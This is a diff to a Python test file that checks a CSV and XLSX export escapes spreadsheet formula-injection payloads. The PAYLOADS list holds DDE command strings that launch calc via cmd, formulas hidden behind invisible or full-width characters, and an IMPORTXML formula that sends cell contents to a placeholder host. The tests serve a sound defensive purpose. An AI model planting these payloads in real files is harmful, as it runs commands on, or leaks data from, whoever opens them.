@@ -63,8 +63,25 @@ PAYLOADS = [
     "\u00a0=1+1",
     "\uff1d1+1",
     '=IMPORTXML(CONCAT("http://x/?", A1), "//a")',
+    # Pipes, and starts hidden behind other spaces, invisible characters and quotes.
+    "|calc",
+    " |cmd|' /C calc'!A0",
+    "\uff5ccalc",
+    "\u3000=1+1",
+    "\u2007+1+1",
+    "\u200b=1+1",
+    "\ufeff@SUM(1+1)",
+    " \t=1+1",
+    "\r\n-1+1",
+    '"=1+1',
+    ' "=HYPERLINK(""http://x"")',
+    "'=1+1",
+    " ' @SUM(1+1)",
+    "\u201c=1+1\u201d",
+    "\u00ab =1+1 \u00bb",
+    "\x00=1+1",
 ]
-HARMLESS = ["Cité Phares", "a=b", "Halage | Cité", "1+1", "'déjà cité'", ""]
+HARMLESS = ["Cité Phares", "a=b", "Halage | Cité", "1+1", "'déjà cité'", "« Cité » Phares", " Cité", ""]
 
 
 def row(reference="PTCE-2013-0042", pole="Cité Phares", **overrides):
@@ -156,7 +173,22 @@ def test_csv_quotes_separators_quotes_and_line_breaks_inside_cells():
 def test_csv_neutralises_formula_payloads(payload):
     lines = parse_csv(to_csv([row(pole=payload, lead_structure=payload, decision=payload)], YEARS))
 
-    assert [lines[1][1], lines[1][2], lines[1][12]] == ["'" + payload] * 3
+    expected = "'" + payload.replace("\x00", "")  # NUL cannot travel in a text file
+    assert [lines[1][1], lines[1][2], lines[1][12]] == [expected] * 3
+
+
+def test_every_csv_text_cell_of_a_hostile_export_starts_with_a_quote():
+    fields = ("reference", "pole", "lead_structure", "siret", "commune", "departement", "region", "territory_priority")
+    fields += ("maturity",)
+    rows = [
+        row(**dict.fromkeys(fields, payload), sectors=(payload, "Insertion"), decision=payload) for payload in PAYLOADS
+    ]
+
+    lines = parse_csv(to_csv(rows, YEARS))
+
+    text_cells = [cell for line in lines[1:] for cell in [*line[:10], line[12]]]
+    assert len(text_cells) == 11 * len(PAYLOADS)
+    assert [cell for cell in text_cells if not cell.startswith("'")] == []
 
 
 @pytest.mark.parametrize("text", HARMLESS)
@@ -273,7 +305,8 @@ def test_xlsx_stores_every_formula_payload_as_inert_text():
     data = to_xlsx(rows, YEARS)
 
     sheet = read_xlsx(data)
-    expected = [payload.replace("\r", "\n") for payload in PAYLOADS]  # XML reads a bare CR as LF
+    # XML reads a bare CR as LF; NUL cannot be stored at all.
+    expected = [payload.replace("\r\n", "\n").replace("\r", "\n").replace("\x00", "") for payload in PAYLOADS]
     assert [sheet.cell(line, 2).value for line in range(2, len(PAYLOADS) + 2)] == expected
     assert [sheet.cell(line, 10).value for line in range(2, len(PAYLOADS) + 2)] == expected
     assert {sheet.cell(line, 2).data_type for line in range(2, len(PAYLOADS) + 2)} == {"s"}
